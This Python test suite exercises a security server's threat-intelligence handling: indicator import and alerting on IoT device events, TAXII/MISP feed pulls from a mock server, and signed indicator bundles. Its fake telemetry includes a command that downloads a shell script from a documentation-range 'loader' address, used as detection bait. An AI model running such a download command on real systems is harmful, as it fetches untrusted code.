#!/usr/bin/python3
"""Intelligence in a running server: hashes raise alerts, new indicators find what is stored, feeds are pulled from servers of this test (TAXII 2.1 among them)
conditionally and page by page, sudden loss is refused, bundles are signed and roll back."""

import http.server
import json
import subprocess
import threading
import time
import urllib.parse

from harness import PATIENCE, Device, Server, event, main, message

MEDIA = "application/taxii+json;version=2.1"
BAD = "d1" * 32


class FeedServer:
    """Answers by path; a TAXII collection at /c/ with two objects a page, which knows `added_after` as the standard has it."""

    def __init__(self):
        self.files, self.asked, self.objects = {}, [], []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *_):
                pass

            def do_GET(self):
                outer.asked.append((self.path, dict(self.headers)))
                url = urllib.parse.urlparse(self.path)
                if url.path == "/c/objects/":
                    return self.collection(dict(urllib.parse.parse_qsl(url.query)))
                if self.path not in outer.files:
                    return self.reply(404, b"")
                body = outer.files[self.path].encode()
                tag = f'"{hash(body)}"'
                if self.headers.get("If-None-Match") == tag:
                    return self.reply(304, b"", ETag=tag)
                self.reply(200, body, ETag=tag)

            def collection(self, query):
                if self.headers.get("Accept") != MEDIA:
                    return self.reply(406, b"")
                if self.headers.get("Authorization") != "Basic bWU6c2VjcmV0":
                    return self.reply(401, b"")
                found = [(added, one) for added, one in outer.objects if added > query.get("added_after", "")]
                start = int(query.get("next", 0))
                page = found[start:start + 2]
                envelope = {"objects": [one for _, one in page]} if page else {}
                if start + 2 < len(found):
                    envelope |= {"more": True, "next": str(start + 2)}
                more = {"X-TAXII-Date-Added-First": page[0][0], "X-TAXII-Date-Added-Last": page[-1][0]} if page else {}
                self.reply(200, json.dumps(envelope).encode(), **{"Content-Type": MEDIA, **more})

            def reply(self, status, body, **headers):
                self.send_response(status)
                for name, value in headers.items():
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def url(self, path):
        return f"http://127.0.0.1:{self.server.server_port}{path}"

    def add(self, number, address):
        self.objects.append((f"2026-01-0{number}T00:00:00.000000Z", {
            "type": "indicator", "spec_version": "2.1", "id": f"indicator--0000000{number}-0000-4000-8000-000000000000", "created": "2026-01-01T00:00:00Z",
            "modified": "2026-01-01T00:00:00Z", "valid_from": "2026-01-01T00:00:00Z", "pattern_type": "stix", "confidence": 90,
            "indicator_types": ["malicious-activity"], "pattern": f"[ipv4-addr:value = '{address}']"}))

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def process(line, **extra):
    return message(event("ProcessCreate", [{"Executable": "/tmp/x", "ProcessId": 9, "ParentProcessId": 1, "UserId": "0", "CommandLine": line, "ExtraDetails": extra}]))


def connection(address):
    return message(event("ConnectionCreate", [{"RemoteAddress": address, "RemotePort": "443", "Direction": "Out", "Protocol": "tcp", "ProcessId": 8, "UserId": "0",
                                               "Executable": "/usr/bin/app"}]))


def wait_until(condition, what, seconds=60):
    deadline = time.monotonic() + seconds * PATIENCE
    while not condition():
        assert time.monotonic() < deadline, what
        time.sleep(0.2)


def in_force(server):
    return json.loads(server.cli("intel", "list", "--format", "json"))


def new_indicators_find_what_is_stored_once_and_hashes_alert_live():
    with Server() as server:
        device = Device(server, server.make_device("pump-1"))
        other = Device(server, server.make_device("pump-2"))
        assert device.connect() == 0 and other.connect() == 0
        device.send(0, connection("203.0.113.66"))
        device.send(1, process("wget http://203.0.113.80/x.sh"))
        device.send(2, process("/tmp/x", Hash=BAD))
        device.send(3, connection("203.0.113.9"))
        other.send(0, connection("203.0.113.66"))
        device.wait_acknowledged(4)
        other.wait_acknowledged(1)
        server.wait_for("SecurityIoTRawEvent | count", lambda rows: rows[0][0] >= 5, 30)
        indicators = server.data / "c2.csv"
        indicators.write_text(f"value,category,confidence,source,tlp\n203.0.113.66,c2,90,lab,amber\n203.0.113.80,loader,90,lab,\n{BAD},mirai,90,lab,\n198.51.100.1,c2,90,lab,\n")
        server.cli("intel", "import", indicators)
        alerts = ("SecurityAlert | where AlertType == 'IoT_X_KnownIndicatorInHistory' | extend P=parse_json(ExtendedProperties)"
                  " | summarize take_any(ExtendedProperties) by SystemAlertId, CompromisedEntity, Indicator=tostring(P.Indicator) | sort by CompromisedEntity, Indicator")
        rows = server.wait_for(alerts, lambda rows: len(rows) >= 4, 60)
        assert sorted((row[1], row[2]) for row in rows) == sorted([("pump-1", "203.0.113.66"), ("pump-1", "203.0.113.80"), ("pump-1", BAD), ("pump-2", "203.0.113.66")]), rows
        of_address = next(json.loads(row[3]) for row in rows if row[1:3] == ["pump-1", "203.0.113.66"])
        assert of_address["IndicatorTlp"] == "TLP:AMBER" and of_address["Devices"].count("pump-") == 2 and of_address["DeviceCount"] == "2", of_address
        for row in rows:  # the evidence query gives the rows it says
            properties = json.loads(row[3])
            assert len(server.query(properties["EvidenceQuery"])) == int(properties["Rows"]) == 1, properties
        live = "SecurityAlert | where AlertType in ('IoT_TiConnection', 'IoT_X_MaliciousFile') | distinct AlertType, CompromisedEntity"
        assert server.query(live) == [], "what history found is not raised live as well"
        # From here on the same things are met live, and history is not asked for them again.
        device.send(4, connection("203.0.113.66"))
        device.send(5, process("/tmp/y", Hash=BAD.upper()))
        device.wait_acknowledged(6)
        found = server.wait_for(live, lambda rows: len(rows) == 2, 30)
        assert sorted(found) == [["IoT_TiConnection", "pump-1"], ["IoT_X_MaliciousFile", "pump-1"]], found
        indicators.write_text(indicators.read_text() + "198.51.100.2,c2,90,lab,\n")
        before = in_force(server)["hunt"]["hunts"]
        server.cli("intel", "import", indicators)
        wait_until(lambda: in_force(server)["hunt"]["hunts"] > before, "history is asked again")
        server.kill()
        server.start()
        time.sleep(3)
        assert len(server.query(alerts)) == 4, server.query(alerts)
        assert in_force(server)["hunt"]["problem"] == "", in_force(server)["hunt"]
        device.close()
        other.close()


def feeds_are_pulled_and_sudden_loss_is_refused():
    feeds = FeedServer()
    feeds.files["/list.txt"] = "\n".join(f"203.0.113.{i}" for i in range(40)) + "\nnot an indicator!\n"
    for number in range(1, 4):
        feeds.add(number, f"198.51.100.{number}")
    uuid = "11111111-1111-4111-8111-111111111111"
    feeds.files["/misp/manifest.json"] = json.dumps({uuid: {"timestamp": "1", "info": "x"}})
    feeds.files[f"/misp/{uuid}.json"] = json.dumps({"Event": {"uuid": uuid, "info": "botnet", "Orgc": {"name": "circle"}, "Attribute": [
        {"type": "domain", "value": "c2.example", "to_ids": True}]}})
    with Server() as server:
        refused = server.run("intel", "feed", "add", "plain", "--url", "http://feeds.example/x")
        assert refused.returncode != 0 and "https://" in refused.stderr, refused.stderr
        password = server.data / "password"
        password.write_text("secret\n")
        server.cli("intel", "feed", "add", "abuse", "--url", feeds.url("/list.txt"), "--every", "5m")
        server.cli("intel", "feed", "add", "isac", "--as", "taxii", "--url", feeds.url("/c/"), "--user", "me", "--password-file", password)
        server.cli("intel", "feed", "add", "circle", "--as", "misp", "--url", feeds.url("/misp"))
        wait_until(lambda: all(one["status"]["state"] == "well" for one in listed(server).values()), "all are pulled")
        assert {name: one["status"]["indicators"] for name, one in listed(server).items()} == {"abuse": 40, "isac": 3, "circle": 1}, listed(server)
        assert "secret" not in json.dumps(listed(server)) and listed(server)["isac"]["authorized"], listed(server)
        assert listed(server)["abuse"]["status"]["bad"][0]["line"] == 41
        for value, source in (("203.0.113.39", "feed-abuse"), ("198.51.100.3", "feed-isac"), ("www.c2.example", "circle")):
            wait_until(lambda: json.loads(server.cli("intel", "lookup", value, "--format", "json"))["found"], value)
            assert json.loads(server.cli("intel", "lookup", value, "--format", "json"))["indicator"]["source"] == source

        # Only what is new is asked for.
        feeds.asked.clear()
        feeds.add(4, "198.51.100.4")
        for name in ("abuse", "isac", "circle"):
            server.cli("intel", "feed", "run", name)
        assert [path for path, _ in feeds.asked] == ["/list.txt", "/c/objects/?added_after=2026-01-03T00%3A00%3A00.000000Z", "/misp/manifest.json"], feeds.asked
        assert "If-None-Match" in feeds.asked[0][1]
        assert listed(server)["isac"]["status"]["indicators"] == 4

        # A feed that forgets most of what it had is not believed, an unreachable one changes nothing.
        feeds.files["/list.txt"] = "203.0.113.1\n"
        shrunk = server.run("intel", "feed", "run", "abuse")
        assert shrunk.returncode != 0 and "shrank from 40" in shrunk.stderr, shrunk.stderr
        assert json.loads(server.cli("intel", "lookup", "203.0.113.39", "--format", "json"))["found"]
        server.kill()
        server.start()
        assert listed(server)["abuse"]["status"]["problem"], "it is remembered"
        server.cli("intel", "feed", "run", "abuse", "--accept-shrink")
        wait_until(lambda: not json.loads(server.cli("intel", "lookup", "203.0.113.39", "--format", "json"))["found"], "the smaller list")
        feeds.close()
        gone = server.run("intel", "feed", "run", "circle")
        assert gone.returncode != 0 and "no server answers" in gone.stderr, gone.stderr
        assert json.loads(server.cli("intel", "lookup", "c2.example", "--format", "json"))["found"]
        server.cli("intel", "feed", "remove", "circle")
        wait_until(lambda: not json.loads(server.cli("intel", "lookup", "c2.example", "--format", "json"))["found"], "it goes with its file")


def listed(server):
    return {one["name"]: one for one in json.loads(server.cli("intel", "feed", "list", "--format", "json"))["value"]}


def bundles_are_signed_and_roll_back():
    with Server() as server:
        for name in ("key", "stranger"):
            subprocess.run(["openssl", "genpkey", "-algorithm", "ed25519", "-out", server.data / f"{name}.pem"], check=True, capture_output=True)
        subprocess.run(["openssl", "pkey", "-in", server.data / "key.pem", "-pubout", "-out", server.data / "key.pub"], check=True, capture_output=True)
        listing = server.data / "list.txt"
        made = {}
        for version, address in ((1, "203.0.113.1"), (2, "203.0.113.2")):
            listing.write_text(address + "\n")
            for key in ("key", "stranger", None):
                made[version, key] = server.data / f"{version}-{key}.bundle"
                server.cli("intel", "bundle", "create", listing, "--name", "lab", "--version", version, "--out", made[version, key],
                           *(["--key", server.data / f"{key}.pem"] if key else []))
        server.cli("intel", "bundle", "trust", server.data / "key.pub", "--as", "lab", "--require")
        for key, why in ((None, "not signed"), ("stranger", "not trusted")):
            refused = server.run("intel", "bundle", "apply", made[1, key])
            assert refused.returncode != 0 and why in refused.stderr, refused.stderr
        refused = server.run("intel", "import", listing)
        assert refused.returncode != 0 and "signatures are required" in refused.stderr, refused.stderr
        server.cli("intel", "bundle", "apply", made[1, "key"])
        server.cli("intel", "bundle", "apply", made[2, "key"])
        known = lambda value: json.loads(server.cli("intel", "lookup", value, "--format", "json"))["found"]
        wait_until(lambda: known("203.0.113.2") and not known("203.0.113.1"), "version 2 is in force")
        again = server.run("intel", "bundle", "apply", made[1, "key"])
        assert again.returncode != 0 and "not above 2" in again.stderr, again.stderr
        server.cli("intel", "bundle", "rollback", "lab")
        wait_until(lambda: known("203.0.113.1") and not known("203.0.113.2"), "version 1 is back")
        server.kill()
        server.start()
        assert known("203.0.113.1")
        versions = json.loads(server.cli("intel", "bundle", "list", "--format", "json"))["value"][0]
        assert (versions["current"], versions["highest"], versions["versions"][0]["signedBy"]) == (1, 2, "lab"), versions
        server.cli("intel", "bundle", "remove", "lab")
        wait_until(lambda: not known("203.0.113.1"), "its indicators go")


if __name__ == "__main__":
    main(new_indicators_find_what_is_stored_once_and_hashes_alert_live, feeds_are_pulled_and_sudden_loss_is_refused, bundles_are_signed_and_roll_back)
